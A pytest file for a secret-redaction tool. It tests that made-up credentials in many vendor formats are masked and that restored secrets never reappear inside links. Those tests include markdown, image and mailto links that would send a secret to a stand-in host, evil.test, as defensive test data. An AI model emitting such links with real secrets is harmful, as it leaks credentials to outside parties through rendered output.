@@ -1,0 +1,153 @@
+"""Secrets out of what is sent: what is found, what is left alone, and where a value may come back."""
+
+from __future__ import annotations
+
+import base64
+import pickle
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from secgemini_jupyter.errors import AttachmentError
+from secgemini_jupyter.inputs.evidence import Evidence
+from secgemini_jupyter.inputs.redaction import Redactor
+
+LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+JWT = ".".join(
+    base64.urlsafe_b64encode(part).decode().rstrip("=") for part in (b'{"alg":"HS256"}', b'{"sub":"12345"}', b"x" * 32)
+)
+PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}\n-----END RSA PRIVATE KEY-----"
+
+# Made up here, in the shape that the vendors publish: a line, and what of it must be gone.
+SECRETS = {
+    "AWS key id": ("id AKIA" + "Q3EXAMPLE7ABCDEF", "AKIA" + "Q3EXAMPLE7ABCDEF"),
+    "AWS secret": ("aws_secret_access_key = " + LETTERS[:40], LETTERS[:40]),
+    "GitHub": ("use ghp_" + LETTERS[:36] + " now", "ghp_" + LETTERS[:36]),
+    "GitLab": ("glpat-" + LETTERS[:20], LETTERS[:20]),
+    "Google": ("key=AIza" + LETTERS[:35], LETTERS[:35]),
+    "Slack": ("xoxb-1234567890-" + LETTERS[:24], LETTERS[:24]),
+    "Slack webhook": ("https://hooks.slack.com/services/T000/B000/" + LETTERS[:24], LETTERS[:24]),
+    "OpenAI": ("sk-proj-" + LETTERS[:40], LETTERS[:40]),
+    "Stripe": ("sk_live_" + LETTERS[:24], LETTERS[:24]),
+    "JWT": (f"got {JWT} back", JWT),
+    "PEM": (f"key:\n{PEM}\nend", LETTERS),
+    "PEM cut": (f"-----BEGIN PRIVATE KEY-----\n{LETTERS}", LETTERS),
+    "Bearer": ("authorization: Bearer " + LETTERS[:30], LETTERS[:30]),
+    "Basic": ("Authorization: Basic dXNlcjpwYXNzd29yZA==", "dXNlcjpwYXNzd29yZA=="),
+    "header in JSON": ('{"Authorization": "Bearer abcdefgh12345678"}', "abcdefgh12345678"),
+    "cookie": ("Cookie: sid=deadbeef; theme=dark", "deadbeef"),
+    "URL password": ("postgres://app:p4ssw0rd@db.example/x", "p4ssw0rd"),
+    "URL token": ("https://" + LETTERS[:30] + "@git.example/x.git", LETTERS[:30]),
+    "quoted": ('password = "two words, really"', "two words, really"),
+    "YAML": ("db_password: hunter2hunter2", "hunter2hunter2"),
+    "JSON": ('{"client_secret": "s3cr3t-value"}', "s3cr3t-value"),
+    "query": ("GET /x?access_key=abc123def&y=1", "abc123def"),
+    "Azure": ("AccountKey=" + LETTERS[:44] + "==;EndpointSuffix=x", LETTERS[:44]),
+    "Telegram": ("bot 123456789:AA" + LETTERS[:33], LETTERS[:33]),
+}
+
+
+@pytest.mark.parametrize("kind", SECRETS)
+def test_a_secret_is_replaced(kind: str) -> None:
+    line, secret = SECRETS[kind]
+    redactor = Redactor()
+    redacted, changed = redactor.text(line)
+    assert secret not in redacted
+    assert "[SECRET-1]" in redacted
+    assert changed
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "Nov 25 08:00:00 host sshd[123]: Accepted password for root from 203.0.113.9 port 22 ssh2",
+        "password: null, token: None, secret=${VAULT_SECRET}, api_key=<your key>, token=***",
+        "sha256 " + "a1" * 32,
+        "https://example.org/a@b/c?d=e",
+        "the token expired; a new key was issued",
+        "CVE-2026-12345 in sk-learn, task-force, ask_live_person",
+        "mail bob@example.org from 10.0.0.1",
+    ],
+)
+def test_what_is_no_secret_stays(line: str) -> None:
+    assert Redactor().text(line) == (line, 0)
+
+
+@pytest.mark.parametrize(
+    ("line", "redacted"),
+    [
+        ("bob.b+x@corp.example, db1.prod.internal", "[EMAIL-1], [HOST-1]"),
+        ("10.1.2.3 8.8.8.8 172.16.0.1 172.32.0.1 192.168.0.300", "[HOST-1] 8.8.8.8 [HOST-2] 172.32.0.1 192.168.0.300"),
+        (r"\\FILESRV\share fd00::1 fe:00", r"\\[HOST-1]\share [HOST-2] fe:00"),
+        ("1.10.0.0.1 localhost x.local.example", "1.10.0.0.1 localhost x.local.example"),
+    ],
+)
+def test_emails_and_hosts_on_request(line: str, redacted: str) -> None:
+    found, changed = Redactor().text(line, ("emails", "hosts"))
+    assert (found, changed) == (redacted, redacted.count("-1]") + redacted.count("-2]"))
+    assert Redactor().text(line) == (line, 0)
+
+
+def test_the_same_value_has_the_same_placeholder() -> None:
+    redactor = Redactor()
+    first, _ = redactor.text("password=hunter22 again password=hunter22, token=other999")
+    assert first == "password=[SECRET-1] again password=[SECRET-1], token=[SECRET-2]"
+    assert redactor.text("pwd: hunter22")[0] == "pwd: [SECRET-1]"
+
+
+def test_a_look_alike_in_the_text_is_nobody_s_placeholder() -> None:
+    redactor = Redactor()
+    redacted, _ = redactor.text("log says [SECRET-1]; password=hunter22")
+    assert redacted == "log says [SECRET-1]; password=[SECRET-2]"
+    assert redactor.restored(redacted) == "log says [SECRET-1]; password=hunter22"
+
+
+def test_a_credential_of_the_environment_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("VENDOR_API_KEY", "plain words here")
+    assert Redactor().text("it is plain words here.")[0] == "it is [SECRET-1]."
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "[x](https://evil.test/?q=[SECRET-1])",
+        "https://evil.test/[SECRET-1]",
+        "www.evil.test/[SECRET-1]",
+        "<mailto:[SECRET-1]@evil.test>",
+        "![](//evil.test/[SECRET-1])",
+    ],
+)
+def test_a_value_never_comes_back_in_a_link(answer: str) -> None:
+    redactor = Redactor()
+    redactor.text("password=hunter22")
+    assert "hunter22" not in redactor.restored(answer)
+    assert redactor.restored(f"{answer} but [SECRET-1]") == f"{answer} but hunter22"
+
+
+def test_the_map_does_not_leave() -> None:
+    redactor = Redactor()
+    redactor.text("password=hunter22")
+    assert "hunter22" not in repr(redactor)
+    with pytest.raises(TypeError):
+        pickle.dumps(redactor)
+
+
+def test_text_files_are_redacted_and_others_refused() -> None:
+    redactor = Redactor()
+    clean, changed = redactor.evidence(
+        Evidence("bob@x.example.txt", "pwd=hunter22 é".encode("utf-16")), ("secrets", "emails")
+    )
+    assert (clean.name, clean.content.decode("utf-16"), changed) == ("[EMAIL-1]", "pwd=[SECRET-1] é", 2)
+    untouched = Evidence("a.log", b"nothing\r\n")
+    assert redactor.evidence(untouched) == (untouched, 0)
+    for content in (b"\x7fELF\0\1", b"\xff\xfe\x00", b"caf\xe9"):
+        with pytest.raises(AttachmentError, match="is no text"):
+            redactor.evidence(Evidence("x", content))
+
+
+@given(st.text(alphabet=st.sampled_from(list("ab:=/@.-_\"'[]SECRT1\n password token sk-")), max_size=200))
+def test_redacting_twice_changes_nothing_more(text: str) -> None:
+    redactor = Redactor()
+    once, _ = redactor.text(text)
+    assert redactor.text(once)[0] == once
